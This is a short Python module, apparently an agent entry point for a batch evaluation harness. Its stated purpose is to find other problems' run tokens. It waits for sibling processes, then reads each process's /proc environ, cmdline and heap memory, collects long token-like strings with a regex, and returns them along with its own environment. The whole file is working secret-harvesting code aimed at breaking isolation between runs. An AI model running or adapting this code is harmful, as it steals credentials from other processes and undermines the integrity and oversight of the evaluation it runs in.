"""Batch mode: looks for the other problems' run tokens. It waits for its siblings to be running, then reads every
process's environ, cmdline and memory (heap and anonymous writable mappings) it can, and its own environment."""

import json
import os
import re
import time

TOKEN = re.compile(rb"[A-Za-z0-9_\-]{20,}")


def _read(path: str, n: int = 1 << 16) -> bytes | str:
    try:
        with open(path, "rb") as fh:
            return fh.read(n)
    except OSError as exc:
        return f"{type(exc).__name__}: {exc.strerror}"


def _memory(pid: str) -> bytes | str:
    maps = _read(f"/proc/{pid}/maps", 1 << 20)
    if isinstance(maps, str):
        return maps
    out = []
    try:
        with open(f"/proc/{pid}/mem", "rb") as mem:
            for line in maps.decode().splitlines():
                parts = line.split()
                if len(parts) < 2 or not parts[1].startswith("rw") or (len(parts) > 5 and parts[5] != "[heap]"):
                    continue
                lo, hi = (int(x, 16) for x in parts[0].split("-"))
                mem.seek(lo)
                out.append(mem.read(min(hi - lo, 16 << 20)))
    except OSError as exc:
        return f"{type(exc).__name__}: {exc.strerror}"
    return b"".join(out)


def agent_main(problem_data: dict) -> list:
    time.sleep(float(json.loads(problem_data["query"])["wait"]))
    me = str(os.getpid())
    seen, loot = {}, set()
    for pid in sorted(p for p in os.listdir("/proc") if p.isdigit() and p != me):
        for what in ("environ", "cmdline", "mem"):
            data = _memory(pid) if what == "mem" else _read(f"/proc/{pid}/{what}")
            seen[f"{pid}/{what}"] = data if isinstance(data, str) else f"READ {len(data)} bytes"
            if isinstance(data, bytes):
                loot.update(m.decode() for m in TOKEN.findall(data))
    return [{"env": dict(os.environ), "seen": seen, "loot": sorted(loot)[:20000]}]
